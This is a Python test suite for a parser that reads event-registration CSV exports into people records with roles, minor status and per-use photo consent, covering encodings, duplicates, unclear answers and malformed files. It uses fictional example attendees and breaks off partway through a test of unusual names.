"""Registration exports -> people and photo consent; people CSVs written safely for Excel.

Every test writes a real file the way the tool in question does (headers, encoding, delimiter,
line endings) and reads it back through the public functions; nothing is mocked.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import os
import shutil
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gallery_app.core.consent.model import ROLES, USES, ConsentStatus
from gallery_app.core.errors import UserError
from gallery_app.core.people import registration_csv as reg
from gallery_app.core.people.registration_csv import (
    MAX_FILE_BYTES,
    ParsedRegistration,
    RegistrationRow,
    neutralise_formula,
    parse_registration_csv,
    write_people_csv,
)

G = ConsentStatus.GRANTED
R = ConsentStatus.REFUSED
ALL_GRANTED: dict[str, ConsentStatus | None] = dict.fromkeys(USES, G)
ALL_REFUSED: dict[str, ConsentStatus | None] = dict.fromkeys(USES, R)
ALL_UNKNOWN: dict[str, ConsentStatus | None] = dict.fromkeys(USES)
TODAY = dt.date(2026, 5, 14)


def _write(
    tmp_path: Path, text: str, *, name: str = "registration.csv", encoding: str = "utf-8"
) -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def _parse(path: Path, **kwargs: object) -> ParsedRegistration:
    return parse_registration_csv(path, today=TODAY, **kwargs)  # type: ignore[arg-type]


def _by_name(parsed: ParsedRegistration) -> dict[str, RegistrationRow]:
    return {row.name: row for row in parsed.rows}


def _problems(parsed: ParsedRegistration) -> list[tuple[int, str]]:
    return [(problem.row_number, problem.message) for problem in parsed.problems]


# --------------------------------------------------------------------------------------------
# Real-world exports


def test_eventbrite_attendee_report(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Order #,Order Date,First Name,Last Name,Email,Quantity,Ticket Type,Attendee #,"
        "Barcode #,Attendee Status,Company,Job Title,"
        "Do you consent to being photographed at this event?\r\n"
        "4432,2026-04-01 09:12:00,Zoë,Müller,ZOE@Example.org ,1,Speaker Pass,1001,111,"
        'Attending,"Acme, Inc.",CEO,Yes\r\n'
        "4433,2026-04-01 10:00:00,Ann,Lee,ann@example.org,1,General Admission,1002,112,"
        "Attending,,,No\r\n"
        "4434,2026-04-02 11:30:00,Bob,Okafor,bob@example.org,1,Early Bird,1003,113,"
        "Attending,Org,,\r\n"
        "4435,2026-04-02 11:31:00,Chloé,Ng,chloe@example.org,1,Volunteer,1004,114,"
        "Attending,Org,,maybe\r\n",
    )
    parsed = _parse(path)
    people = _by_name(parsed)
    assert list(people) == ["Zoë Müller", "Ann Lee", "Bob Okafor", "Chloé Ng"]
    zoe = people["Zoë Müller"]
    assert zoe == RegistrationRow(
        row_number=2,
        name="Zoë Müller",
        email="zoe@example.org",
        organisation="Acme, Inc.",
        role="speaker",
        minor=None,
        guardian=None,
        consent=ALL_GRANTED,
        evidence="registration.csv row 2, Order # 4432",
    )
    assert people["Ann Lee"].consent == ALL_REFUSED
    assert people["Ann Lee"].role == "delegate"
    assert people["Bob Okafor"].consent == ALL_UNKNOWN  # blank: unknown, and no complaint
    assert people["Bob Okafor"].role == "other"
    assert people["Chloé Ng"].consent == ALL_UNKNOWN
    assert people["Chloé Ng"].role == "volunteer"
    assert _problems(parsed) == [
        (5, 'photo consent answer "maybe" is neither yes nor no; consent left unknown')
    ]
    assert parsed.columns == {
        "first_name": "First Name",
        "last_name": "Last Name",
        "email": "Email",
        "organisation": "Company",
        "role": "Ticket Type",
        "evidence": "Order #",
        "consent": "Do you consent to being photographed at this event?",
    }
    assert "Job Title" in parsed.unused_columns
    assert "Attendee Status" in parsed.unused_columns
    assert (parsed.encoding, parsed.delimiter) == ("utf-8", ",")


def test_ticket_tailor_export_with_buyer_columns_and_sentence_answers(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Ticket ID,Order ID,Buyer name,Buyer email,Ticket type,Ticket holder name,"
        "Ticket holder email,Checked in,Photography consent\n"
        "tk_1,or_1,Pat Buyer,pat@example.org,Delegate,Sam Holder,sam@example.org,No,"
        '"Yes, I agree to be photographed"\n'
        "tk_2,or_1,Pat Buyer,pat@example.org,Press,Kim Holder,kim@example.org,No,"
        '"No, please do not photograph me"\n'
        "tk_3,or_2,Lu Buyer,lu@example.org,Staff,Jo Holder,jo@example.org,Yes,"
        '"Yes, but not on social media"\n',
    )
    parsed = _parse(path)
    assert parsed.columns["name"] == "Ticket holder name"
    assert parsed.columns["email"] == "Ticket holder email"
    assert parsed.columns["evidence"] == "Order ID"
    assert parsed.columns["role"] == "Ticket type"
    people = _by_name(parsed)
    assert people["Sam Holder"].consent == ALL_GRANTED
    assert people["Sam Holder"].evidence == "registration.csv row 2, Order ID or_1"
    assert people["Kim Holder"].consent == ALL_REFUSED
    assert people["Kim Holder"].role == "press"
    assert people["Jo Holder"].consent == ALL_UNKNOWN  # a condition: never guess
    assert people["Jo Holder"].role == "staff"
    [(row, message)] = _problems(parsed)
    assert row == 4
    assert '"Yes, but not on social media"' in message
    assert message.endswith("consent left unknown")


def test_google_forms_per_use_questions_minor_and_guardian(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Timestamp,Email address,Full name,Organisation,"
        '"I consent to photographs of me being used on the event website",'
        '"Photos of me may be used on social media (Instagram, LinkedIn)",'
        "Are you under 18?,Name of parent or guardian\n"
        "2026/04/01 10:22:33 AM GMT+1,amira@example.org,أميرة حداد,Red Crescent,Yes,No,No,\n"
        "2026/04/02 08:00:00 AM GMT+1,tom@example.org,Tom Small,School,Yes,Yes,Yes,Mia Small\n",
    )
    parsed = _parse(path)
    assert parsed.columns["consent_web"].startswith("I consent to photographs")
    assert parsed.columns["consent_social"].startswith("Photos of me may be used")
    assert "consent" not in parsed.columns
    amira = _by_name(parsed)["أميرة حداد"]
    assert amira.consent == {"web": G, "social": R, "print": None, "internal": None}
    assert amira.minor is False
    assert amira.evidence == "registration.csv row 2, Timestamp 2026/04/01 10:22:33 AM GMT+1"
    tom = _by_name(parsed)["Tom Small"]
    assert (tom.minor, tom.guardian) == (True, "Mia Small")
    assert tom.consent == {"web": G, "social": G, "print": None, "internal": None}
    assert parsed.problems == []


def test_google_forms_multiple_choice_of_uses(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Timestamp,Name,Which uses of your photo do you agree to?\n"
        '1,Ana,"Website, Social media"\n'
        "2,Ben,None of the above\n"
        "3,Cy,Website; maybe print\n",
    )
    people = _by_name(_parse(path))
    assert people["Ana"].consent == {"web": G, "social": G, "print": None, "internal": None}
    assert people["Ben"].consent == ALL_REFUSED
    assert people["Cy"].consent == ALL_UNKNOWN


def test_microsoft_forms_export_with_anonymous_account_and_dates_of_birth(
    tmp_path: Path,
) -> None:
    path = _write(
        tmp_path,
        "ID,Start time,Completion time,Email,Name,Full name,Company,Photography opt-in,"
        "Date of birth\r\n"
        "1,5/1/26 10:01:02,5/1/26 10:03:00,anonymous,anonymous,Lena Berg,NGO,TRUE,1990-06-01\r\n"
        "2,5/1/26 10:05:00,5/1/26 10:07:00,anonymous,anonymous,Kai Berg,NGO,FALSE,"
        "2010-06-01\r\n"
        "3,5/1/26 11:00:00,5/1/26 11:02:00,anonymous,anonymous,Ola Nowak,NGO,Yes,05/06/2009\r\n"
        "4,5/1/26 11:00:00,5/1/26 11:02:00,anonymous,anonymous,Ida Dahl,NGO,Yes,05/06/1980\r\n",
    )
    parsed = _parse(path)
    assert parsed.columns["name"] == "Full name"
    assert parsed.columns["evidence"] == "ID"
    people = _by_name(parsed)
    assert people["Lena Berg"].email is None  # "anonymous" is the form's placeholder
    assert people["Lena Berg"].consent == ALL_GRANTED
    assert people["Lena Berg"].minor is False
    assert people["Kai Berg"].consent == ALL_REFUSED
    assert people["Kai Berg"].minor is True
    # 5 June 2009 or 6 May 2009: 16 either way on 14 May 2026.
    assert people["Ola Nowak"].minor is True
    assert people["Ida Dahl"].minor is False
    assert people["Ida Dahl"].evidence == "registration.csv row 5, ID 4"
    assert parsed.problems == []


def test_excel_semicolon_cp1252_with_decimal_commas(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Name;E-Mail;Firma;Betrag;Foto-Einwilligung\r\n"
        "Zoë Müller;zoe@example.de;Müller & Söhne GmbH;12,50;Ja\r\n"
        "François Lefèvre;f@example.fr;Café Crème;7,00;Nein\r\n"
        "Jürgen Groß;j@example.de;Straße AG;0,00;oui\r\n",
        encoding="cp1252",
    )
    parsed = _parse(path)
    assert (parsed.encoding, parsed.delimiter) == ("cp1252", ";")
    people = _by_name(parsed)
    assert set(people) == {"Zoë Müller", "François Lefèvre", "Jürgen Groß"}
    assert people["Zoë Müller"].organisation == "Müller & Söhne GmbH"
    assert people["Zoë Müller"].consent == ALL_GRANTED
    assert people["François Lefèvre"].consent == ALL_REFUSED
    assert people["Jürgen Groß"].consent == ALL_GRANTED
    assert parsed.columns["consent"] == "Foto-Einwilligung"


def test_latin1_bytes_undefined_in_cp1252_still_read(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    path.write_bytes(b"Name,Photo consent\nA\x81na,yes\n")  # 0x81 is undefined in cp1252
    parsed = _parse(path)
    assert parsed.encoding == "latin-1"
    assert parsed.rows[0].name == "A\x81na"


def test_excel_sep_hint_line(tmp_path: Path) -> None:
    path = _write(tmp_path, "sep=;\r\nName;Email;Photo consent\r\nAna, the first;a@x.org;y\r\n")
    parsed = _parse(path)
    assert parsed.delimiter == ";"
    [row] = parsed.rows
    assert (row.row_number, row.name, row.consent) == (2, "Ana, the first", ALL_GRANTED)


def test_utf8_bom(tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes(codecs.BOM_UTF8 + "Name,Email\nŁucja Wróbel,l@example.pl\n".encode())
    parsed = _parse(path)
    assert parsed.encoding == "utf-8-sig"
    assert parsed.columns["name"] == "Name"  # not "\ufeffName"
    assert parsed.rows[0].name == "Łucja Wróbel"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_utf16_unicode_text_tab_separated(tmp_path: Path, encoding: str) -> None:
    text = "Name\tOrganisation\tPhoto consent\r\n王小明\tACME, Ltd\tyes\r\nΑλέξης\t\tno\r\n"
    path = _write(tmp_path, text, encoding=encoding)  # "utf-16" writes a BOM
    parsed = _parse(path)
    assert parsed.encoding.startswith("utf-16")
    assert parsed.delimiter == "\t"
    people = _by_name(parsed)
    assert people["王小明"].organisation == "ACME, Ltd"
    assert people["王小明"].consent == ALL_GRANTED
    assert people["Αλέξης"].consent == ALL_REFUSED


def test_quoted_multiline_values_blank_and_whitespace_rows(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Name,Organisation,Photo consent,,\r\n"
        '"Ann\r\nMarie  Lee","Acme, Inc.\nResearch Dept",yes,,\r\n'
        "\r\n"
        "   ,  ,\r\n"
        ",,,,\r\n"
        "Bo Chen,Org,no\r\n",
    )
    parsed = _parse(path)
    assert [(row.row_number, row.name) for row in parsed.rows] == [
        (2, "Ann Marie Lee"),
        (6, "Bo Chen"),  # rows as a spreadsheet numbers them: the quoted value is one row
    ]
    assert parsed.rows[0].organisation == "Acme, Inc. Research Dept"
    assert parsed.problems == []


def test_title_rows_above_the_header_and_repeated_header(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Attendee report,,\nGenerated 14 May 2026,,\n,,\nName,Email,Photo consent\n"
        "Ana,a@example.org,yes\nName,Email,Photo consent\nBo,b@example.org,no\n",
    )
    parsed = _parse(path)
    assert parsed.header_row == 4
    assert [(row.row_number, row.name) for row in parsed.rows] == [(5, "Ana"), (7, "Bo")]
    assert _problems(parsed) == [(6, "repeats the header row; skipped")]
    assert parsed.notes == ["rows 1–3 above the header were ignored"]


def test_unmatched_quote_is_reported(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        'Name,Email,Organisation\nAna,a@example.org,"Acme\nBo,b@example.org,Org\n'
        "Cy,c@example.org,Org\n",
    )
    parsed = _parse(path)
    assert [row.name for row in parsed.rows] == ["Ana"]
    [(row, message)] = _problems(parsed)
    assert row == 2
    assert "unmatched quote" in message


def test_rows_without_a_name_are_skipped_and_reported(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "First name,Last name,Email\nAna,,a@example.org\n,Okafor,o@example.org\n"
        ",,nobody@example.org\n",
    )
    parsed = _parse(path)
    assert [row.name for row in parsed.rows] == ["Ana", "Okafor"]
    assert _problems(parsed) == [(4, "no name; row skipped")]


def test_duplicate_header_names_and_extra_cells(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Name,Email,Email,Photo consent\nAna,ana@example.org,billing@example.org,yes,extra\nBo\n",
    )
    parsed = _parse(path)
    assert parsed.columns["email"] == "Email (column B)"
    assert "Email (column C)" in parsed.unused_columns
    people = _by_name(parsed)
    assert people["Ana"].email == "ana@example.org"
    assert people["Bo"].email is None  # short row: padded, not an error
    mapped = _parse(path, mapping={"email": "Email (column C)"})
    assert _by_name(mapped)["Ana"].email == "billing@example.org"


# --------------------------------------------------------------------------------------------
# Duplicate people


def test_duplicates_by_email_and_by_name_are_merged_and_reported(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Name,Email,Organisation,Role,Photo consent\n"
        "Ana Lima,ana@example.org,,,yes\n"  # 2
        "Bo,,,,no\n"  # 3
        "ANA LIMA,Ana@Example.org,Acme,Speaker,yes\n"  # 4: same email, same answer
        "bo,,,,no\n"  # 5: same name, no emails
        "Cy,cy@example.org,,,\n"  # 6
        "Cy Again,CY@example.org,,,no\n",  # 7: fills the unknown
    )
    parsed = _parse(path)
    people = _by_name(parsed)
    assert list(people) == ["Ana Lima", "Bo", "Cy"]
    assert people["Ana Lima"].organisation == "Acme"  # blanks filled from the later row
    assert people["Ana Lima"].role == "speaker"
    assert people["Ana Lima"].consent == ALL_GRANTED
    assert people["Cy"].consent == ALL_REFUSED
    assert _problems(parsed) == [
        (4, "same email as row 2; merged"),
        (5, "same name (and no email) as row 3; merged"),
        (7, "same email as row 6; merged"),
    ]


def test_duplicate_with_different_consent_leaves_it_unknown(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Name,Email,Website photo consent,Social media photo consent\n"
        "Ana,ana@example.org,yes,yes\n"
        "Ana,ana@example.org,yes,no\n"
        "Ana,ana@example.org,yes,yes\n",  # agreeing with the first does not settle it
    )
    parsed = _parse(path)
    [ana] = parsed.rows
    assert ana.consent == {"web": G, "social": None, "print": None, "internal": None}
    assert _problems(parsed) == [
        (
            3,
            "same email as row 2 but a different photo consent answer for social; merged, "
            "consent for social left unknown",
        ),
        (4, "same email as row 2; merged"),
    ]


# --------------------------------------------------------------------------------------------
# Consent columns and answers


def test_per_use_columns_override_the_generic_one(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Name,Photo consent,Photos on social media - consent,Photos in print publications - OK\n"
        "Ana,yes,no,\n"  # social overridden; print blank -> generic applies
        "Bo,no,yes,yes\n"
        "Cy,,yes,\n",
    )
    parsed = _parse(path)
    assert parsed.columns["consent"] == "Photo consent"
    assert parsed.columns["consent_social"] == "Photos on social media - consent"
    assert parsed.columns["consent_print"] == "Photos in print publications - OK"
    people = _by_name(parsed)
    assert people["Ana"].consent == {"web": G, "social": R, "print": G, "internal": G}
    assert people["Bo"].consent == {"web": R, "social": G, "print": G, "internal": R}
    assert people["Cy"].consent == {"web": None, "social": G, "print": None, "internal": None}


def test_generic_column_applies_to_default_uses_only(tmp_path: Path) -> None:
    path = _write(tmp_path, "Name,Photo consent\nAna,yes\n")
    [ana] = _parse(path, default_uses=("web", "internal")).rows
    assert ana.consent == {"web": G, "social": None, "print": None, "internal": G}
    with pytest.raises(UserError, match="unknown use tv"):
        _parse(path, default_uses=("tv",))


def test_two_generic_columns_that_disagree(tmp_path: Path) -> None:
    path = _write(tmp_path, "Name,Photo consent,Filming consent\nAna,yes,no\nBo,yes,\n")
    parsed = _parse(path)
    people = _by_name(parsed)
    assert people["Ana"].consent == ALL_UNKNOWN
    assert people["Bo"].consent == ALL_GRANTED
    [(row, message)] = _problems(parsed)
    assert row == 2
    assert message == (
        'photo consent answers disagree ("Photo consent": granted; "Filming consent": '
        "refused); consent for web, social, print, internal left unknown"
    )


def test_opt_out_column_inverts_yes_and_no_and_says_so(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Name,Tick if you do NOT want to be photographed,Photography opt-out\n"
        "Ana,Yes,\n"
        "Bo,No,\n"
        "Cy,,Opted out\n"
        "Di,,No\n"
        "Ed,x,\n",
    )
    parsed = _parse(path)
    people = _by_name(parsed)
    assert people["Ana"].consent == ALL_REFUSED
    assert people["Bo"].consent == ALL_GRANTED
    assert people["Cy"].consent == ALL_REFUSED
    assert people["Di"].consent == ALL_GRANTED
    assert people["Ed"].consent == ALL_REFUSED
    assert len(parsed.notes) == 2
    assert all("opting out" in note for note in parsed.notes)


YES_ANSWERS = [
    "yes", "Y", "TRUE", "1", "agree", "Agreed", "I agree", "i consent", "Consent", "granted",
    "accept", "Accepted", "opt in", "Opt-in", "opted in", "OK", "x", "✓", "✔", "ja", "Oui",
    "si", "Sí", "  YES  ", "Yes, I agree to be photographed", "I agree to be photographed",
    "Yes - happy to be photographed!", "I consent to photos being taken",
]  # fmt: skip
NO_ANSWERS = [
    "no", "N", "false", "0", "disagree", "do not agree", "don't agree", "Don’t agree",
    "refuse", "refused", "decline", "declined", "opt out", "Opt-out", "opted out", "nein",
    "Non", "No, please do not photograph me", "I do not consent", "No thank you",
]  # fmt: skip
UNCLEAR_ANSWERS = [
    "maybe", "not sure", "?", "n/a", "-", "=TRUE()", "Yes, but not on social media",
    "Yes except print", "only internal", "sometimes", "yesno", "2",
]  # fmt: skip


def _one_answer(tmp_path: Path, answer: str) -> ParsedRegistration:
    path = tmp_path / "answers.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["Name", "Photo consent"], ["Ana", answer]])
    return _parse(path)


@pytest.mark.parametrize("answer", YES_ANSWERS)
def test_yes_answers(tmp_path: Path, answer: str) -> None:
    parsed = _one_answer(tmp_path, answer)
    assert parsed.rows[0].consent == ALL_GRANTED
    assert parsed.problems == []


@pytest.mark.parametrize("answer", NO_ANSWERS)
def test_no_answers(tmp_path: Path, answer: str) -> None:
    parsed = _one_answer(tmp_path, answer)
    assert parsed.rows[0].consent == ALL_REFUSED
    assert parsed.problems == []


@pytest.mark.parametrize("answer", UNCLEAR_ANSWERS)
def test_unclear_answers_are_never_guessed(tmp_path: Path, answer: str) -> None:
    parsed = _one_answer(tmp_path, answer)
    assert parsed.rows[0].consent == ALL_UNKNOWN
    [(row, message)] = _problems(parsed)
    assert row == 2
    assert f'"{answer.strip()}"' in message
    assert message.endswith("left unknown")


@pytest.mark.parametrize(
    "header",
    [
        "Photo consent",
        "I agree to be photographed",
        "Media release",
        "Photography opt-in",
        "Photo permission (yes/no)",
        "Are you happy to be photographed?",
        "Einwilligung Fotos",
        "PHOTO_CONSENT",
    ],
)
def test_consent_headers_recognised(tmp_path: Path, header: str) -> None:
    path = _write(tmp_path, f'Name,"{header}"\nAna,yes\n')
    parsed = _parse(path)
    assert parsed.columns["consent"] == header
    assert parsed.rows[0].consent == ALL_GRANTED


@pytest.mark.parametrize(
    "header",
    [
        "Marketing consent",
        "I agree to the terms and conditions",
        "Social media handle",
        "Photo options",
        "Consent",  # which consent? ask with --map consent=Consent
    ],
)
def test_other_columns_are_not_mistaken_for_photo_consent(tmp_path: Path, header: str) -> None:
    path = _write(tmp_path, f'Name,"{header}"\nAna,yes\n')
    parsed = _parse(path)
    assert not any(key.startswith("consent") for key in parsed.columns)
    assert parsed.rows[0].consent == ALL_UNKNOWN
    assert parsed.unused_columns == [header]


def test_header_matching_ignores_case_space_and_punctuation(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "  FIRST_NAME ,surname,E-mail Address,Organization,Attendee Type,Booking Reference\n"
        "Ana,Lima,ana@example.org,Acme,Panellist,BR-1\n",
    )
    parsed = _parse(path)
    assert parsed.columns == {
        "first_name": "FIRST_NAME",
        "last_name": "surname",
        "email": "E-mail Address",
        "organisation": "Organization",
        "role": "Attendee Type",
        "evidence": "Booking Reference",
    }
    [ana] = parsed.rows
    assert (ana.name, ana.role, ana.evidence) == (
        "Ana Lima",
        "speaker",
        "registration.csv row 2, Booking Reference BR-1",
    )


@pytest.mark.parametrize(
    ("header", "name"),
    [
        ("Vorname;Name;E-Mail", "Ana Lima"),
        ("Prénom;Nom;Courriel", "Ana Lima"),
        ("Name;Vorname;Nachname", "Lima"),  # a real full-name column wins
        ("First name / Given name;Surname / Family name;Email", "Ana Lima"),
    ],
)
def test_european_and_combined_name_headers(tmp_path: Path, header: str, name: str) -> None:
    first, second = ("Lima", "Ana") if header.startswith("Name;") else ("Ana", "Lima")
    path = _write(tmp_path, f"{header}\n{first};{second};Lima\n", encoding="cp1252")
    [row] = _parse(path).rows
    assert row.name == name


@pytest.mark.parametrize(
    ("value", "role"),
    [
        ("Speaker", "speaker"),
        ("Keynote speaker pass", "speaker"),
        ("Delegate", "delegate"),
        ("Staff", "staff"),
        ("Volunteer crew", "volunteer"),
        ("Press", "press"),
        ("Media", "press"),
        ("VIP", "other"),
        ("", None),
    ],
)
def test_roles(tmp_path: Path, value: str, role: str | None) -> None:
    path = _write(tmp_path, f"Name,Role\nAna,{value}\n")
    [row] = _parse(path).rows
    assert row.role == role
    assert role is None or role in ROLES


# --------------------------------------------------------------------------------------------
# Minors


@pytest.mark.parametrize(
    ("header", "value", "minor"),
    [
        ("Under 18?", "Yes", True),
        ("Under 18?", "No", False),
        ("Is the attendee a minor?", "y", True),
        ("Are you over 18?", "Yes", False),
        ("Are you 18+?", "No", True),
        ("Age", "17", True),
        ("Age", "18", False),
        ("Age group", "Under 18", True),
        ("Age group", "13-17", True),
        ("Age group", "25-34", False),
        ("Age group", "65+", False),
        ("Date of birth", "2008-05-15", True),  # turns 18 tomorrow
        ("Date of birth", "2008-05-14", False),  # 18 today
        ("DOB", "14/05/2008", False),
        ("DOB", "3 March 2012", True),
        ("Date of birth", "", None),
    ],
)
def test_minor_columns(tmp_path: Path, header: str, value: str, minor: bool | None) -> None:
    path = _write(tmp_path, f"Name,{header}\nAna,{value}\n")
    parsed = _parse(path)
    assert parsed.columns["minor"] == header
    assert parsed.rows[0].minor is minor
    assert parsed.problems == []


@pytest.mark.parametrize(
    ("header", "value", "words"),
    [
        ("Date of birth", "05/06/2008", "day/month or month/day"),  # 17 or 18 today
        ("Date of birth", "soon", "not something we can read"),
        ("Date of birth", "2030-01-01", "not plausible"),
        ("Under 18", "perhaps", "not something we can read"),
    ],
)
def test_unreadable_minor_values_are_reported(
    tmp_path: Path, header: str, value: str, words: str
) -> None:
    path = _write(tmp_path, f"Name,{header}\nAna,{value}\n")
    parsed = _parse(path)
    assert parsed.rows[0].minor is None
    [(row, message)] = _problems(parsed)
    assert row == 2
    assert words in message


def test_guardian_email_is_not_the_guardian_or_the_email(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Name,Email,Parent/guardian email,Parent/guardian name,Guardian photo consent\n"
        "Tom,tom@example.org,mum@example.org,Mia,yes\n",
    )
    parsed = _parse(path)
    assert parsed.columns["email"] == "Email"
    assert parsed.columns["guardian"] == "Parent/guardian name"
    assert parsed.columns["consent"] == "Guardian photo consent"
    [tom] = parsed.rows
    assert (tom.email, tom.guardian, tom.consent) == ("tom@example.org", "Mia", ALL_GRANTED)


# --------------------------------------------------------------------------------------------
# --map


def test_mapping_overrides_detection(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Participant,Contact,Pics OK?,Photo consent,Kind\n"
        "Ana Lima,ana@example.org,yes,no,Speaker\n",
    )
    parsed = _parse(
        path,
        mapping={"name": "participant", "email": "Contact", "consent": "Pics OK?", "role": "Kind"},
    )
    [ana] = parsed.rows
    assert (ana.name, ana.email, ana.role) == ("Ana Lima", "ana@example.org", "speaker")
    assert ana.consent == ALL_GRANTED  # the mapped column replaces the detected one
    assert parsed.columns["consent"] == "Pics OK?"
    assert "Photo consent" in parsed.unused_columns


def test_mapping_per_use_and_switching_a_field_off(tmp_path: Path) -> None:
    path = _write(tmp_path, "Name,Photo consent,Web?,Role\nAna,yes,no,Speaker\n")
    parsed = _parse(path, mapping={"consent_web": "Web?", "role": ""})
    [ana] = parsed.rows
    assert ana.consent == {"web": R, "social": G, "print": G, "internal": G}
    assert ana.role is None
    assert "role" not in parsed.columns


def test_mapping_first_and_last_name(tmp_path: Path) -> None:
    path = _write(tmp_path, "Name,Vorname,Nachname\nbadge,Ana,Lima\n")
    [ana] = _parse(path, mapping={"first_name": "Vorname", "last_name": "Nachname"}).rows
    assert ana.name == "Ana Lima"


def test_mapping_to_a_missing_column_names_it_and_lists_the_columns(tmp_path: Path) -> None:
    path = _write(tmp_path, "Name,Email\nAna,a@example.org\n")
    with pytest.raises(UserError) as caught:
        _parse(path, mapping={"consent": "Photo OK"})
    message = str(caught.value)
    assert '"Photo OK"' in message
    assert '"Name", "Email"' in message
    assert str(path) in message
    assert "\n" not in message
    with pytest.raises(UserError, match="does not know the field colour"):
        _parse(path, mapping={"colour": "Name"})


def test_no_name_column(tmp_path: Path) -> None:
    path = _write(tmp_path, "Email,Company,Photo consent\na@example.org,Acme,yes\n")
    with pytest.raises(UserError) as caught:
        _parse(path)
    message = str(caught.value)
    assert message == (
        f'{path}: could not find a name column; columns found: "Email", "Company", '
        '"Photo consent"; use --map name=COLUMN'
    )
    parsed = _parse(path, mapping={"name": "Email"})
    assert parsed.rows[0].name == "a@example.org"


# --------------------------------------------------------------------------------------------
# Bad input


def _error(path: Path) -> str:
    with pytest.raises(UserError) as caught:
        _parse(path)
    message = str(caught.value)
    assert "\n" not in message
    assert str(path) in message
    return message


def test_missing_file_and_folder(tmp_path: Path) -> None:
    assert _error(tmp_path / "nope.csv").endswith("does not exist")
    assert _error(tmp_path).endswith("is not a file")


@pytest.mark.parametrize(
    "content", [b"", b"\r\n\r\n  \n", codecs.BOM_UTF8, codecs.BOM_UTF8 + b"\n"]
)
def test_empty_files(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "empty.csv"
    path.write_bytes(content)
    assert _error(path).endswith("is empty")


def test_header_only_file_has_no_people_and_no_problems(tmp_path: Path) -> None:
    parsed = _parse(_write(tmp_path, "Name,Email,Photo consent\r\n"))
    assert (parsed.rows, parsed.problems) == ([], [])


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"Name,Email\nAna\x00\x00\x01,a@x\n", "is not a CSV text file"),
        (bytes(range(256)) * 8, "is not a CSV text file"),
        (b"PK\x03\x04\x14\x00\x06\x00rest-of-an-xlsx", "Excel workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old Excel"),
        (b"\x89PNG\r\n\x1a\n", "PNG image"),
        (b"<!DOCTYPE html>\n<html><body>Log in</body></html>", "web page"),
        (b"\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11 text", "is not a CSV text file"),
    ],
)
def test_files_that_are_not_csv_text(tmp_path: Path, content: bytes, words: str) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(content)
    message = _error(path)
    assert words in message
    assert "is not a CSV text file" in message


def test_fifty_megabyte_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:  # sparse: instant to make, all NUL bytes if ever read
        handle.truncate(50 * 1024 * 1024)
    started = time.perf_counter()
    message = _error(path)
    assert time.perf_counter() - started < 1.0
    # If it had been read, the NUL bytes would have made it "not a CSV text file".
    assert message == (
        f"{path} is 50.0 MB — larger than any registration export we expect (limit 20 MB); "
        "check it is the right file"
    )


def test_file_at_the_limit_is_still_read(tmp_path: Path) -> None:
    line = b"Ana Lima,ana@example.org,yes\n"
    header = b"Name,Email,Photo consent\n"
    count = (MAX_FILE_BYTES - len(header)) // len(line)
    path = tmp_path / "big.csv"
    path.write_bytes(header + line * min(count, 20_000))
    parsed = _parse(path)
    assert len(parsed.rows) == 1  # every row is the same person
    assert len(parsed.problems) == min(count, 20_000) - 1


def test_unreadable_file(tmp_path: Path) -> None:
    """As root, parse without the capabilities that ignore file modes (util-linux setpriv)."""
    path = _write(tmp_path, "Name\nAna\n")
    path.chmod(0)
    prefix: list[str] = []
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        assert setpriv, "setpriv (util-linux) is needed to test permissions as root"
        prefix = [setpriv, "--bounding-set=-dac_override,-dac_read_search", "--"]
    script = (
        "import sys; from pathlib import Path\n"
        "from gallery_app.core.errors import UserError\n"
        "from gallery_app.core.people.registration_csv import parse_registration_csv\n"
        "try:\n    parse_registration_csv(Path(sys.argv[1]))\n"
        "except UserError as exc:\n    print(exc)\n"
    )
    try:
        result = subprocess.run(
            [*prefix, sys.executable, "-c", script, str(path)],
            capture_output=True,
            text=True,
            timeout=60,
        )
    finally:
        path.chmod(0o600)
    assert "cannot be read" in result.stdout, result.stderr


def test_unknown_columns_are_listed_not_fatal(tmp_path: Path) -> None:
    path = _write(tmp_path, "Name,Shoe size,Dietary needs,\nAna,38,vegan,\n")
    parsed = _parse(path)
    assert parsed.unused_columns == ["Shoe size", "Dietary needs"]
    assert parsed.rows[0].name == "Ana"


# --------------------------------------------------------------------------------------------
# Names and values kept exactly


def test_emoji_rtl_and_combining_characters(tmp_path: Path) -> None:
    decomposed = "Jose\u0301 Ferna\u0301ndez"  # e + combining acute
    names = [
        "Ana 🌻 Lima",
        "👩🏽‍💻 Dev",  # ZWJ sequence with a skin tone
        "שרה כהן",
        "محمد الأحمد",
        decomposed,
        "\u202bRTL embedded\u202c",
    ]
    path = tmp_path / "names.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
